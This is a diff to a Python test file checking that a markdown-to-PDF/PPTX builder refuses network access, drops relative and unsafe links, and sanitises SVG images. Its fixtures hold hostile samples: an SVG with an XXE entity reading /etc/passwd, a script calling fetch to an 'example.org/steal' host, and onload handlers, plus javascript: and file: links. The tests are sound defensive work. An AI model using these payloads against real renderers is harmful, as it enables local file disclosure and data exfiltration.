@@ -144,9 +144,15 @@ def test_a_build_never_opens_a_network_connection(write_brief, tmp_path, monkeyp
     brief = write_brief(f"# S\n\n{linked}\n\n![Map](map.png)\n\n- [item](https://example.net)\n")
     result = build(brief, tmp_path / "out", force=True)
     assert result.pages and result.slides
-    remote = write_brief("# S\n\n![Remote](https://example.org/map.png)\n", name="remote.md")
-    [problem] = refused(remote, tmp_path / "out")
-    assert "is remote" in problem.message
+    remote = write_brief(
+        "# S\n\n![Remote](https://example.org/map.png)\n\n[![b](https://x.org/b.png)](https://x.org)\n",
+        name="remote.md",
+    )
+    result = build(remote, tmp_path / "out", force=True)
+    assert [w.message.split(";")[0] for w in result.warnings] == [
+        "image 'https://example.org/map.png' is remote and is not fetched",
+        "image 'https://x.org/b.png' is remote and is not fetched",
+    ]
     assert attempts == []
 
 
@@ -161,8 +167,6 @@ def test_a_build_never_opens_a_network_connection(write_brief, tmp_path, monkeyp
         "[x](data:text/html;base64,PHNjcmlwdD4=)",
         "[x](file:///etc/passwd)",
         "[x](smb://host/share)",
-        "[x](//example.org/protocol-relative)",
-        "[x](relative/page.html)",
         "[x][ref] by reference\n\n[ref]: javascript:alert(1)",
     ],
 )
@@ -171,6 +175,50 @@ def test_only_http_https_and_mailto_links_are_accepted(write_brief, tmp_path, li
     [problem] = refused(brief, tmp_path / "out")
     assert "is not an http, https or mailto link" in problem.message
     assert problem.line == line_of(brief, f"A {link[:4]}")
+
+
+def test_relative_links_are_text_without_any_link_in_either_output(write_brief, tmp_path):
+    brief = write_brief("# S\n\nA [page](relative/page.html), [host](//example.org/x) and [top](#nowhere).\n")
+    result = build(brief, tmp_path / "out", force=True)
+    assert len(result.warnings) == 3
+    reader = pypdf.PdfReader(tmp_path / "out" / "brief.pdf")
+    assert not any(page.get("/Annots") for page in reader.pages)
+    deck = (tmp_path / "out" / "brief.pptx").read_bytes()
+    assert b"relative/page.html" not in deck and b"example.org/x" not in deck
+
+
+SVG_WITH_SCRIPT = """<?xml version="1.0"?>
+<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60">
+<script>fetch('https://example.org/steal')</script>
+<style>@import url(https://example.org/x.css); rect { fill: url(https://example.org/p.svg#a) }</style>
+<rect width="120" height="60" fill="#246" onload="alert(1)"/>
+<image xlink:href="https://example.org/track.png" width="5" height="5"/>
+<use href="file:///etc/passwd#x"/>
+<foreignObject><p>html</p></foreignObject>
+<text x="5" y="30">&secret;</text>
+</svg>
+"""
+
+
+def test_an_svg_image_is_drawn_with_no_script_no_entity_and_no_outside_reference(write_brief, tmp_path, monkeypatch):
+    def refuse(*args, **kwargs):
+        raise OSError("network access during a build")
+
+    monkeypatch.setattr(socket, "getaddrinfo", refuse)
+    monkeypatch.setattr(socket, "create_connection", refuse)
+    (tmp_path / "pic.svg").write_text(SVG_WITH_SCRIPT)
+    brief = write_brief("# S\n\n![Vector](pic.svg)\n")
+    result = build(brief, tmp_path / "out", force=True)
+    assert result.pages and result.slides
+    with zipfile.ZipFile(tmp_path / "out" / "brief.pptx") as deck:
+        [svg] = [name for name in deck.namelist() if name.endswith(".svg")]
+        stored = deck.read(svg).decode()
+        assert any(name.endswith(".png") for name in deck.namelist())  # the fallback picture
+    for needle in ("script", "fetch", "onload", "example.org", "file:", "foreignObject", "@import", "root:"):
+        assert needle not in stored, needle
+    pdf = (tmp_path / "out" / "brief.pdf").read_bytes()
+    assert b"root:" not in pdf and b"example.org" not in pdf
 
 
 # ---------------------------------------------------------------- nothing that runs
